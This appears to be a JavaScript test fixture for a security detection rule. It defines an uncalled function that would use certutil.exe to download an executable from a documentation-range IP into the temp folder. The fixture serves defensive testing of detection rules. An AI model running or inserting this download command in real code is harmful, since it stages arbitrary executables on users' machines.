// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const { exec } = require('child_process');
function never() {
  exec('certutil.exe -urlcache -split -f http://192.0.2.8/p.exe %TEMP%\\p.exe');
}
module.exports = { never };
